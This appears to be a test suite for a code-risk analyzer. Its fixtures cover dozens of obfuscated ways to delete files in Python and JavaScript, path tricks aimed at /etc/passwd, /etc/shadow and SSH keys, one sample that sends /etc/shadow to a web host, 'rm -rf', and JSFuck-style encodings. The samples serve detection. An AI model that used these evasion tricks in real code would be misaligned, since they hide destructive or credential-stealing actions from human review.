import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { type Language, languages } from '../contract/run.ts'
import { prepare } from './front-ends.ts'
import { inspectProgram } from './inspect.ts'

beforeAll(async () => {
  await Promise.all(languages.map(prepare))
})

const rulesIn = (code: string, language: Language = 'python'): string[] =>
  inspectProgram(code, language).violations.map(({ rule }) => rule)
const deleted = (code: string, language: Language = 'python') =>
  inspectProgram(code, language).impact.filesDeleted.map(({ target }) => target)

describe('imports', () => {
  it('are told with their lines, those inside a string with the line of the call that runs it', () => {
    const code = 'import os\nif x:\n    import os\n    exec("import socket")'
    expect(inspectProgram(code, 'python')).toMatchObject({
      imports: ['os', 'socket'],
      importLines: { os: [1, 3], socket: [4] },
    })
  })
})

describe('names', () => {
  it.each([
    ['an alias', "from os import remove as r\nr('a')"],
    ['getattr with a name put together', "import os\ngetattr(os, 're' + 'move')('a')"],
    ['__import__', "__import__('os').remove('a')"],
    ['importlib', "import importlib\nimportlib.import_module('os').remove('a')"],
    ['a star import', "from os import *\nremove('a')"],
    ['the dictionary of a module', "import os\nos.__dict__['remove']('a')"],
    ['sys.modules', "import sys\nsys.modules['os'].remove('a')"],
    ['a variable', "import os\nf = os.remove\nf('a')"],
    ['a table', "import os\ntable = {'x': os.remove}\ntable['x']('a')"],
    ['a function of the program', "import os\ndef go(p):\n    os.remove(p)\ngo('a')"],
    [
      'a method and a field',
      "import os\nclass A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        os.remove(self.p)\nA('a').go()",
    ],
    ['a thread', "import os, threading\nthreading.Thread(target=os.remove, args=('a',)).start()"],
    ['map', "import os\nlist(map(os.remove, ['a']))"],
    ['a partial', "import os, functools\nfunctools.partial(os.remove, 'a')()"],
    [
      'a function that is declared below',
      "def main():\n    drop('a')\ndef drop(p):\n    import os\n    os.remove(p)\nmain()",
    ],
    ['exec of a text', 'exec("import os; os.remove(\'a\')")'],
    ['base64', "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ2EnKQ=='))"],
    ['a list of words', "import subprocess\nsubprocess.run(['rm', 'a'])"],
    ['a shell', "import subprocess\nsubprocess.run('rm a', shell=True)"],
    ['a comment that ends at a carriage return', "# a\rimport os\ros.remove('a')"],
    ['a line that only looks like a magic', "x = [5\n%exec('import os; os.remove(1)')]\nimport os; os.remove('a')"],
    ['a shell in a shell', `import os\nos.system("bash -c 'rm a'")`],
    ['full-width letters', "import os\nos.ｒemove('a')"],
    ['mathematical letters', '𝐞𝐱𝐞𝐜("import os; os.remove(\'a\')")'],
    ['a name declared in other letters', "import os\n𝓰𝓸 = os.remove\ngo('a')"],
    ['a module in a module', "import numpy as np\nnp.os.remove('a')"],
    ['a module in a module of a package', "import pandas as pd\npd.io.common.os.remove('a')"],
    ['a private name of a module', "import random\nrandom._os.remove('a')"],
    ['the modules that a module knows', "import logging\nlogging.sys.modules['os'].remove('a')"],
    ['an element of a list', "import os\n[os.remove][0]('a')"],
    ['an entry of a dictionary', "import os\ndict(x=os.remove).get('x')('a')"],
    ['the dictionary of a module, asked', "import os\nvars(os).get('remove')('a')"],
    ['sys.modules, asked', "import sys\nsys.modules.get('os').remove('a')"],
    ['a fold over getattr', "import functools, os\nfunctools.reduce(getattr, ['path', 'os', 'remove'], os)('a')"],
    [
      'a module made from its specification',
      "import importlib.util as u\ns = u.find_spec('os')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\nm.remove('a')",
    ],
    ['a module loaded again', "import importlib, os\nimportlib.reload(os).remove('a')"],
    ['the loader', "__loader__.load_module('os').remove('a')"],
    ['a name resolved', "import pkgutil\npkgutil.resolve_name('os:remove')('a')"],
    ['the names of a run module', "import runpy\nrunpy.run_module('os')['remove']('a')"],
    ['a query of a frame', 'import pandas as pd\npd.DataFrame().query(\'@__import__("os").remove("a")\')'],
    ['globals', "from os import remove as r\nglobals()['r']('a')"],
    ['a builtin that is replaced', "import builtins, os\nbuiltins.print = os.remove\nprint('a')"],
    ['a name in eval', "import os as o\neval('o').remove('a')"],
    ['the globals of a function', "def f(): pass\nf.__globals__['__builtins__'].__import__('os').remove('a')"],
    ['a profiler', 'import cProfile\ncProfile.run("import os; os.remove(\'a\')")'],
    ['a string that stands alone', 'import os\nf"{os.remove(\'a\')}"'],
    ['the width of a formatted value', 'import os\nx = f"{1:{os.remove(\'a\')}}"'],
    ['the type of a parameter', "import os as o\ndef f(x: o.remove('a')): pass"],
    ['the type of what comes back', "import os as o\ndef f() -> o.remove('a'): pass"],
    ['the type of a variable', "import os as o\nx: o.remove('a') = 1"],
    ['what is caught', "import os\ntry: pass\nexcept os.remove('a'): pass"],
    ['a generator', "import os\ndef g():\n    yield os.remove\nfor f in g():\n    f('a')"],
    ['the first of a generator', "import os\ndef g():\n    yield os.remove\nnext(g())('a')"],
    ['a generator of a generator', "import os\ndef g():\n    yield from [os.remove]\nfor f in g():\n    f('a')"],
    ['a table that is worked out', "import os\nt = {k: v for k, v in [('x', os.remove)]}\nt['x']('a')"],
    ['a guard of a case', "import os\nmatch 1:\n    case x if os.remove('a'): pass"],
    ['what a case captures', "import os\nmatch os:\n    case m:\n        m.remove('a')"],
    ['what a case takes apart', "import os\nmatch (1, os):\n    case (n, m):\n        m.remove('a')"],
    ['what a case calls by a name', "import os\nmatch os:\n    case object() as m:\n        m.remove('a')"],
    [
      'what is entered',
      "import os\nclass A:\n    def __enter__(self):\n        return os.remove\n    def __exit__(self, *a): pass\nwith A() as f:\n    f('a')",
    ],
    ['decorators', '@eval\n@\'__import__("os").remove("a")\'.format\ndef x(): pass'],
  ])('are seen through %s', (_, code) => expect(deleted(code)).toContain('a'))

  it.each([
    ['destructuring', "const { rmSync: r } = require('fs'); r('a')"],
    ['a computed member', "const fs = require('fs'); fs['rm' + 'Sync']('a')"],
    ['a default import', "import fs from 'node:fs'\nfs.rmSync('a')"],
    ['an import of the default by name', "import { default as fs } from 'node:fs'\nfs.rmSync('a')"],
    ['a comment that ends at a rare line end', "// x\u2028require('fs').rmSync('a')"],
    ['a dynamic import', "const fs = await import('fs'); fs.rmSync('a')"],
    ['a promise of a module', "import('fs').then(fs => fs.rmSync('a'))"],
    ['globalThis', "globalThis['require']('fs').rmSync('a')"],
    ['eval in a roundabout way', `globalThis['ev' + 'al']("require('fs').rmSync('a')")`],
    ['call and apply', "require('fs').rmSync.call(null, 'a')"],
    ['a function from text', `new Function("require('fs').rmSync('a')")()`],
    ['an array of words', "const w = ['rmSync', 'fs']; require(w[1])[w[0]]('a')"],
    ['a callback', "['a'].forEach(f => require('fs').rmSync(f))"],
    ['escapes in a name', "r\\u0065quire('fs').rm\\u{53}ync('a')"],
    ['escapes in a declaration', "const a\\u0062c = require('fs').rmSync; abc('a')"],
    ['a template as key', "require(`f${'s'}`)[`rm${'Sync'}`]('a')"],
    ['an element of an array', "[require('fs').rmSync][0]('a')"],
    ['a member of the global object', "globalThis.x = require('fs').rmSync; x('a')"],
    ['the loader of modules', "require('module')._load('fs').rmSync('a')"],
    ['a require that is made', "require('module').createRequire('/')('fs').rmSync('a')"],
    ['the main module', "require.main.require('fs').rmSync('a')"],
    ['a generator', "function* g() { yield require('fs').rmSync }\nfor (const f of g()) f('a')"],
    ['a module that is made', "const M = require('module'); new M().require('fs').rmSync('a')"],
    ['a name in eval', "eval('require')('fs').rmSync('a')"],
    ['a built-in module asked for', "process.getBuiltinModule('fs').rmSync('a')"],
    ['Reflect', "Reflect.apply(Reflect.get(require('fs'), 'rmSync'), null, ['a'])"],
    ['a bound function', "require('fs').rmSync.bind(null, 'a')()"],
    ['what a method is made by', `[].map.constructor("require('fs').rmSync('a')")()`],
    ['a worker of text', `new Worker("require('fs').rmSync('a')", { eval: true })`],
    ['a worker of data', `new Worker('data:text/javascript,require("fs").rmSync("a")')`],
    ['a worker of a blob', `new Worker(URL.createObjectURL(new Blob(["Deno.removeSync('a')"])))`],
    ['an import of data', `import 'data:text/javascript,Deno.removeSync("a")'`],
    ['a copy of a module', "({ ...require('fs') }).rmSync('a')"],
    ['a proxy', "new Proxy(require('fs'), {}).rmSync('a')"],
    ['a map', "new Map([['x', require('fs').rmSync]]).get('x')('a')"],
    ['what stands for a missing value', "const { x = require('fs').rmSync('a') } = {}"],
    ['an assignment of what is missing', "let r; r ??= require; r('fs').rmSync('a')"],
  ])('are seen through %s in JavaScript', (_, code) => expect(deleted(code, 'javascript')).toContain('a'))
})

describe('values', () => {
  it.each([
    ["'/usr/' + '../etc/passwd'", '/etc/passwd'],
    ["os.path.join('/usr', '../etc/passwd')", '/etc/passwd'],
    ["'{}/{}'.format('/etc', 'passwd')", '/etc/passwd'],
    ["'%s/passwd' % '/etc'", '/etc/passwd'],
    ['f\'/etc/{"pass" + "wd"}\'', '/etc/passwd'],
    ["'dwssap/cte/'[::-1]", '/etc/passwd'],
    ["''.join(chr(c) for c in [47, 101, 116, 99])", '/etc'],
    ["bytes.fromhex('2f657463').decode()", '/etc'],
    ["Path('/etc') / 'passwd'", '/etc/passwd'],
    ["os.path.expanduser('~/.ssh/id_rsa')", '~/.ssh/id_rsa'],
    ["os.environ['HOME'] + '/.netrc'", '~/.netrc'],
  ])('fold %s to %s', (expression, path) => {
    const { impact } = inspectProgram(`import os\nfrom pathlib import Path\nopen(${expression})`, 'python')
    expect(impact.filesRead.map(({ target }) => target)).toEqual([path])
  })

  it('are all considered when a branch decides', () => {
    expect(deleted("import os\nif x:\n    p = 'a'\nelse:\n    p = 'b'\nos.remove(p)").sort()).toEqual(['a', 'b'])
  })

  it('that are not known are listed as unknown, with the words of the program', () => {
    expect(inspectProgram('import os\nos.remove(path)', 'python').impact.filesDeleted).toEqual([
      { target: null, expression: 'os.remove(path)', lines: [2] },
    ])
  })

  it('carry where they come from through variables and calls', () => {
    expect(
      rulesIn(
        "from flask import request\nname = request.args.get('n').strip()\nq = 'SELECT * FROM t WHERE n = ' + name\ncur.execute(q)",
      ),
    ).toContain('injection/sql')
    expect(
      rulesIn("data = open('/etc/shadow').read()\nimport requests\nrequests.post('https://x.org', data=data.upper())"),
    ).toContain('network/secret-leaves')
  })
})

describe('noise', () => {
  it.each([
    ['SQL words in a comment', '# SELECT * FROM users WHERE x = \nprint(1)'],
    ['a path in a docstring', '"""see ../../../etc/passwd"""\nprint(1)'],
    ['eval of a data frame', "import pandas as pd\ndf = pd.DataFrame()\ndf.eval('a + b')"],
    ['a function of its own named exec', 'def exec(x):\n    return x\nexec(y)'],
    ['a data file', "import pandas as pd\npd.read_csv('data.csv').to_csv('out.csv')"],
  ])('%s does not raise the level', (_, code) => expect(inspectProgram(code, 'python').risk).toBe('low'))
})

describe('the surface', () => {
  it.each([
    ['bidirectional controls', 'x = 1 # \u202e } if admin', 'surface/bidirectional'],
    ['zero-width characters', 'pass\u200bword = 1', 'surface/invisible'],
    ['letters that look alike', 'p\u0430yload = 1', 'surface/look-alike'],
    ['a text written in escapes', `x = "${'\\x68\\x65\\x6c\\x6c\\x6f'.repeat(8)}"`, 'surface/encoded-text'],
    ['too many decisions', `def f(x):\n${'    if x: y = 1\n'.repeat(60)}`, 'surface/complexity'],
    ['a broken line', 'x = (1\nimport os', 'surface/unparseable'],
  ])('shows %s', (_, code, rule) => expect(rulesIn(code)).toContain(rule))

  const jsFuck = '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]'
  it.each([
    ['JSFuck', jsFuck, 'javascript'],
    ['a piece of JSFuck', `const a = 1\n${jsFuck.repeat(8)}\nfunction total(x) { return x }`, 'javascript'],
    ['jjencode', '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$]};$.$_=($.$_=$+"")[$.$_$]', 'javascript'],
    ['aaencode', "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻ //*´∇｀*/ ['_']; o=(ﾟｰﾟ)=_=3; c=(ﾟΘﾟ)=(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ)=(ﾟΘﾟ)", 'javascript'],
    ['underscores', '_=(()==());__=(_<<_);___=(_<<__)|_;____=(___<<_);_____=((____<<_)|_)', 'python'],
  ] as const)('shows a program of signs: %s', (_, code, language) => {
    expect(rulesIn(code, language)).toContain('surface/signs')
  })

  it('shows long texts that are decoded or packed, and says less of others', () => {
    const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'
    const long = letters.repeat(30)
    const severity = (code: string) =>
      inspectProgram(code, 'python').violations.find(({ rule }) => rule === 'surface/encoded-text')?.severity
    expect(severity(`import base64\nx = base64.b64decode('${long}')`)).toBe('medium')
    expect(severity(`x = 'eJyr${long}'`)).toBe('medium')
    expect(severity(`x = '${long}'`)).toBe('low')
    expect(severity(`import base64\nx = base64.b64decode('iVBORw0KGgo${long}')`)).toBe(undefined)
  })

  it.each([
    ['genes', `dna = '${'ACGTTGCA'.repeat(300)}'`],
    ['a matrix', `m = [${'[1,0,0],[0,1,0],'.repeat(60)}]`],
    ['empty lists', `m = [${'[], '.repeat(60)}]`],
    ['a table', `t = '''${'a,b\n1,2\n'.repeat(300)}'''`],
    ['the path of a drawing', `p = '${'M10.5,3L20,4.5Z'.repeat(100)}'`],
    ['a drawing of letters', `print('''${'=-+*#@/'.repeat(60)}''')  # ${'=-+[]!'.repeat(60)}`],
    ['words', `w = '''${'Some words in a row.\n'.repeat(100)}'''`],
  ])('leaves %s alone', (_, code) => expect(rulesIn(code)).toEqual([]))

  it('shows names in letters or escapes that run as others, and no letters of mathematics', () => {
    expect(rulesIn('ｐｒｉｎｔ(1)')).toContain('surface/look-alike')
    expect(rulesIn('\\u0061lert(1)', 'javascript')).toContain('surface/look-alike')
    expect(rulesIn("ℓ = 1\nσ_max = 2\nprint('ｆｕｌｌ')  # ｗｉｄｔｈ")).not.toContain('surface/look-alike')
  })

  it.each(['python', 'javascript', 'typescript'] as const)('reads a command that is labelled as %s', language => {
    expect(deleted('rm -rf /srv/x', language)).toEqual(['/srv/x'])
    expect(rulesIn('rm -rf /srv/x', language)).toContain('surface/language')
    for (const sum of ['total - tax / n', 'a -b', 'x /y', 'prices -costs', 'a - b\nc -1'])
      expect(rulesIn(sum, language)).toEqual([])
  })

  it('counts the decisions of the worst function', () => {
    expect(
      inspectProgram('def f(x):\n    if x and y:\n        return 1\n    for a in b:\n        pass\n', 'python')
        .complexity,
    ).toBe(4)
  })

  it('leaves emoji, accents and other alphabets alone', () => {
    expect(rulesIn("print('naïve café 👩‍👩‍👧 Привет Ελλάδα')").filter(rule => rule.startsWith('surface/'))).toEqual([])
  })
})

describe('any text in any language', () => {
  it('is answered within the contract', () => {
    const pieces = fc.constantFrom(
      'import os',
      '(',
      ')',
      '{',
      '}',
      "'",
      '"',
      '`',
      '$(',
      'eval',
      'def f():',
      '=>',
      '\n',
      '    ',
      'x = ',
      '.a',
      '[',
      ']',
      ':',
      ';',
      '\\',
      '#',
      '//',
      '/*',
      'class A',
      'f"{',
      '${',
      '<<EOF',
      '\u202e',
      '\ud800',
    )
    fc.assert(
      fc.property(
        fc.array(fc.oneof(pieces, fc.string()), { maxLength: 60 }),
        fc.constantFrom(...languages),
        (parts, language) => {
          const code = parts.join('')
          const { violations, complete, risk } = inspectProgram(code, language)
          const lines = code.split('\n').length
          for (const { line, column } of violations) expect(line >= 1 && line <= lines && column >= 1).toBe(true)
          if (!complete) expect(risk).not.toBe('low')
        },
      ),
      { numRuns: 300 },
    )
  })
})
